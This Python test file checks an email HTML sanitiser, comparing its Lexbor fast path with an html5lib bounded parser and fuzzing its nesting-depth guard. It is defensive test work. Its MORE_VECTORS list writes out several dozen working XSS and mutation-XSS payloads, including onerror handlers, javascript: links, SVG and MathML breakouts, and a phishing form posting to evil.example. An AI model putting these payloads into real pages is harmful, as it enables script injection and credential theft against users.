"""The fast sanitising path (issue 17): more attack vectors, both parsers agreeing, the depth guard.

Lexbor parses what is plausible; html5lib's bounded builder what may nest or grow past
the limits (core.mail.sanitize_depth decides). These tests hold the two to the same
output, the guard to never under-estimating, and the policy to the classic vectors.
"""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from bench.sanitize import newsletter_html, shop_html
from core.mail import sanitize_depth, sanitize_tree
from core.mail.sanitize import sanitize_html
from core.mail.sanitize_depth import may_exceed
from core.mail.sanitize_tree import MAX_HTML_DEPTH, MAX_HTML_ELEMENTS, serialize
from tests.unit.test_sanitize import CIDS, VECTORS, _sample_html, clean

# (id, markup, substrings that must not appear in the output, case-insensitive)
MORE_VECTORS = [
    ("script-uppercase-split", "<SCRIPT>alert(1)</SCRIPT ><ScRiPt src=//e.example/x.js></script>",
     ["script", "e.example"]),
    ("script-in-attribute-name", "<p <script>alert(1)</script>>x</p>", ["<script"]),
    ("slash-separated-handler", "<div/onmouseover=alert(1)>x</div>", ["onmouseover"]),
    ("end-tag-with-handler", "<a href=https://ok.example/>x</a/onclick=alert(1)>", ["onclick"]),
    ("handlers-everywhere", '<marquee onstart=alert(1)>m</marquee><input autofocus onfocus=alert(1)>'
     '<keygen autofocus onfocus=alert(1)>', ["onstart", "onfocus", "<input", "<keygen"]),
    ("isindex-legacy", "<isindex action=javascript:alert(1) type=image>", ["javascript", "<isindex"]),
    ("js-src-img", '<img src="javascript:alert(1)" alt=x>', ["javascript"]),
    ("js-href-null-byte", '<a href="java\x00script:alert(1)">x</a>', ["href"]),
    ("js-href-newline-entity", '<a href="javascript&NewLine;:alert(1)">x</a>', ["href"]),
    ("data-href-uppercase", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
     ["href", "<script"]),
    ("data-svg-in-css", '<p style="background: url(data:image/svg+xml;base64,PHN2Zz4=)">x</p>',
     ["svg", "url("]),
    ("style-comment-split-expression", '<p style="width: exp/**/ression(alert(1))">x</p>',
     ["ression", "alert"]),
    ("style-url-entity-js", '<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>',
     ["javascript"]),
    ("style-unicode-escape-url", r'<p style="background:\75\72\6c(https://t.example/u.png)">x</p>',
     ["t.example"]),
    ("svg-foreignobject-breakout", '<svg><foreignObject><img src=x onerror=alert(1)>'
     "</foreignObject></svg>", ["onerror", "foreignobject", "svg"]),
    ("svg-p-breakout-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
     ["onerror", "<style"]),
    ("math-mglyph-form-mxss", "<form><math><mtext></form><form><mglyph><style></math>"
     "<img src onerror=alert(1)>", ["onerror", "<form", "mglyph"]),
    ("math-annotation-xml", '<math><annotation-xml encoding="text/html"><img src=x onerror='
     'alert(1)></annotation-xml></math>', ["onerror", "annotation"]),
    ("base-target-and-href", '<base target="_top" href="javascript:/"><a href="/x">x</a>',
     ["<base", "_top", "javascript"]),
    ("meta-refresh-uppercase", '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=javascript:alert(1)">',
     ["refresh", "javascript", "<meta"]),
    ("meta-csp-override", '<meta http-equiv="Content-Security-Policy" content="default-src *">',
     ["content-security", "<meta"]),
    ("form-in-table-phishing", '<table><form action="https://evil.example/"><tr><td>'
     '<input name=pw><button type=submit>Go</button></td></tr></form></table>',
     ["evil.example", "<form", "<input", "<button"]),
    ("picture-source-srcset", '<picture><source srcset="https://t.example/a.webp">'
     '<img src="cid:logo@x.example" srcset="https://t.example/b.png 2x"></picture>',
     ["t.example", "srcset", "<source", "<picture"]),
    ("comment-dash-bang", "<!--a--!><img src=x onerror=alert(1)>-->", ["onerror"]),
    ("comment-in-attribute", '<p title="<!--"><img src=x onerror=alert(1)>-->">x</p>', ["onerror"]),
    ("cdata-outside-foreign", "<![CDATA[><img src=x onerror=alert(1)>]]>", ["onerror"]),
    ("processing-instruction", "<?xml version='1.0'?><img src=x onerror=alert(1)>", ["onerror"]),
    ("noembed-attribute-breakout", '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
     ["onerror"]),
    ("noframes-attribute-breakout", '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
     ["onerror"]),
    ("misnested-anchor-in-table", '<a href="https://ok.example/"><table><a href="javascript:alert(1)">'
     "x</a></table>", ["javascript"]),
    ("misnested-formatting", '<b><i><a href="javascript:alert(1)"></b>x</i></a><p>y', ["javascript"]),
    ("select-breakout", "<select><style></select><img src=x onerror=alert(1)></style>",
     ["onerror", "<select"]),
    ("textarea-title-rcdata", "<title><img src=x onerror=alert(1)></title>"
     "<textarea><img src=x onerror=alert(1)></textarea>", ["<img", "<textarea"]),
    ("table-foster-parenting", "<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>",
     ["onerror"]),
    ("body-background-remote", '<body background="https://t.example/bg.png"><p>x</p></body>',
     ["t.example"]),
    ("td-background-javascript", '<table><tr><td background="javascript:alert(1)">x</td></tr>'
     "</table>", ["javascript", "background="]),
]


# An <a> foster-parented into another <a> is written nested, and a browser reads that back
# as siblings: harmless (the inner one lost its href), so the output settles one pass later.
# So it was with html5lib before issue 17; pinned here so a change is seen.
SETTLES_ON_SECOND_PASS = {"misnested-anchor-in-table"}


@pytest.mark.parametrize("name,markup,forbidden", MORE_VECTORS, ids=[v[0] for v in MORE_VECTORS])
def test_more_attack_vectors_are_neutralised_and_stable(name, markup, forbidden):
    out = clean(markup).html
    for needle in forbidden:
        assert needle.lower() not in out.lower()
    again = clean(out).html
    assert (again == out) is (name not in SETTLES_ON_SECOND_PASS)
    assert clean(again).html == again


def test_blocked_remote_images_are_counted_on_the_fast_path():
    markup = shop_html(20_000)
    assert sanitize_tree.lexbor_is_safe(markup)
    result = sanitize_html(markup, allow_remote=False, cid_map={})
    assert result.blocked == {"images": markup.count("<img ")} and result.has_remote
    assert "img.shop.example" not in result.html
    allowed = sanitize_html(markup, allow_remote=True, cid_map={})
    assert allowed.blocked == {} and allowed.html.count('src="https://img.shop.example/') == \
        markup.count("<img ")


def _corpus() -> list[str]:
    samples = [_sample_html(name) for name in ("newsletter_library.eml", "newsletter_product.eml",
                                               "newsletter_club.eml")]
    return ([v[1] for v in VECTORS + MORE_VECTORS if v[0] not in PARSERS_DIFFER] + samples
            + [newsletter_html(), shop_html(60_000)])


# Where html5lib (2020) and Lexbor read differently: html5lib still expands the removed
# <isindex> into a form's words, keeps what follows a </p> inside <svg> in the SVG (now
# </p> leaves foreign content, as browsers do), and ignores a <style> inside <select>
# (Lexbor reads its raw text). Either way nothing active is left.
PARSERS_DIFFER = {"isindex-legacy", "svg-p-breakout-style", "select-breakout"}


def test_both_parsers_give_the_same_sanitised_output(monkeypatch):
    corpus = _corpus()
    fast = [sanitize_html(markup, allow_remote=False, cid_map=CIDS) for markup in corpus]
    monkeypatch.setattr(sanitize_tree, "may_exceed", lambda *limits: True)
    bounded = [sanitize_html(markup, allow_remote=False, cid_map=CIDS) for markup in corpus]
    for markup, one, other in zip(corpus, fast, bounded):
        assert one == other, markup[:200]


def test_real_mail_takes_the_fast_path():
    for markup in _corpus()[-5:] + [shop_html(1_000_000)]:
        assert sanitize_tree.lexbor_is_safe(markup)


# Shapes where a careless estimate sees closed elements that HTML5 keeps open.
@pytest.mark.parametrize("unit", [
    "<div>", "<b><div></b>", "<div><!--</div>-->", '<div><p title="</p></div>">',
    "<div a\"b='x\"></div>'>", "<div><table></div>", "<span><style></span></style>",
    "<div><script><!--<script></div></script>--></script>", "<font a=1><p></p>",
    "<li><ul>", "<table><tr><td><div></tr>", "<a><div></a>", "<svg><g>", "<div/>",
    "<body><div></body>", "<div><![CDATA[</div>]]>", "<div><title></div></title>",
])
def test_guard_sends_deep_shapes_to_the_bounded_parser(unit):
    assert not sanitize_tree.lexbor_is_safe(unit * (MAX_HTML_DEPTH + 1) + "x")


def test_guard_counts_formatting_elements_that_would_be_re_created():
    # 400 distinct unclosed <font>s (below the depth limit) re-opened by each "<p>x".
    markup = "<p>" + "".join(f"<font a={i}>" for i in range(400)) + "</p>" + "<p>x" * 1000
    assert not sanitize_tree.lexbor_is_safe(markup)
    assert len(LexborHTMLParser(markup).root.css("font")) > 5 * MAX_HTML_ELEMENTS  # as feared
    assert sanitize_html(markup, allow_remote=False, cid_map={}).blocked == {"too_complex": 1}


def test_guard_fast_path_only_takes_tags_without_special_rules():
    special = (sanitize_depth._VOID | sanitize_depth._IGNORED | sanitize_depth._RAW_TEXT
               | sanitize_depth._FORMATTING | sanitize_depth._CLOSES_P | set(sanitize_depth._CLOSES)
               | set(sanitize_depth._TABLE_PARTS) | {"svg", "math", "select", "html"})
    assert sanitize_depth._PLAIN_START.isdisjoint(special)


def _lexbor_depth(markup: str) -> int:
    """The deepest element under <body>/<head> in Lexbor's tree (their children are 1)."""
    document = LexborHTMLParser(markup)
    deepest, todo = 0, [(part, 1) for part in (document.head, document.body) if part]
    while todo:
        node, depth = todo.pop()
        child = node.child
        while child is not None:
            if child.is_element_node:
                deepest = max(deepest, depth)
                todo.append((child, depth + 1))
            child = child.next
    return deepest


_TOKENS = st.sampled_from([
    "<div>", "</div>", "<p>", "</p>", "<b>", "</b>", "<i>", "</i>", "<a href=x>", "</a>", "<a>",
    "<b x=1>", "<b x=2>", "<u>", "</u>", "<font a=1>", "<font a=2>", "</font>", "<nobr>",
    "<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>", "<th>", "</th>", "<tbody>",
    "</tbody>", "<thead>", "<caption>", "</caption>", "<col>", "<colgroup>", "<li>", "</li>",
    "<ul>", "</ul>", "<span>", "</span>", "<svg>", "</svg>", "<g/>", "<foreignObject>",
    "</foreignObject>", "<desc>", "<math>", "<mi>", "<mtext>", "<mglyph>", "</math>",
    "<annotation-xml encoding=text/html>", "<select>", "</select>", "<option>", "</option>",
    "<optgroup>", "<button>", "</button>", "<form>", "</form>", "<h1>", "<h2>", "</h1>", "<dd>",
    "<dt>", "<dl>", "</dl>", "<ruby>", "<rb>", "<rt>", "<br>", "</br>", "<br/>", "<div/>",
    "<img>", "<image>", "<frame>", "<!--", "-->", "--!>", "<!-->", "<style>", "</style>",
    "<script>", "</script>", "<title>", "</title>", "<textarea>", "</textarea>", "<xmp>",
    "</xmp>", "<noscript>", "</noscript>", "<iframe>", "</iframe>", "<noembed>", "<plaintext>",
    "<template>", "</template>", "<body>", "</body>", "<html>", "<![CDATA[", "]]>", '"', "'",
    "=", ">", "x", " ", "<p title='", "<p a\"b='", "<a href='", "<center>", "<pre>",
    "<frameset>", "<object>", "</object>", "<applet>", "<marquee>", "<dialog>", "<details>",
    "<summary>",
])


def _lexbor_elements(markup: str) -> int:
    """How many elements Lexbor makes of MARKUP, besides <html>, <head> and <body>."""
    count, todo = 0, [LexborHTMLParser(markup).root]
    while todo:
        child = todo.pop().child
        while child is not None:
            if child.is_element_node:
                count += 1
                todo.append(child)
            child = child.next
    return count - 2


@settings(max_examples=400, deadline=None)
@given(st.lists(_TOKENS, max_size=150))
def test_guard_never_under_estimates_lexbor_depth_or_size(tokens):
    markup = "".join(tokens)
    depth, elements = _lexbor_depth(markup), _lexbor_elements(markup)
    if depth:
        assert may_exceed(markup, depth - 1, 10**9), markup
    if elements:
        assert may_exceed(markup, 10**9, elements - 1), markup


def test_serialiser_escapes_text_and_attributes():
    root = sanitize_tree.parse_with_lexbor(
        '<p title="a&amp;b<c>&quot;" class=x>1 &lt; 2 &amp;&gt; 3<br>t</p><hr noshade>')
    assert serialize(root.find("body")) == (
        '<body><p class="x" title="a&amp;b&lt;c>&quot;">1 &lt; 2 &amp;&gt; 3<br>t</p>'
        "<hr noshade></body>")


def test_lone_surrogates_never_reach_the_response():
    # A body decoded with surrogateescape can hold them; UTF-8 cannot encode them.
    out = sanitize_html("\udcff<p>x\ud800</p>", allow_remote=False, cid_map={}).html
    assert out.encode("utf-8") == b"<p>x</p>"
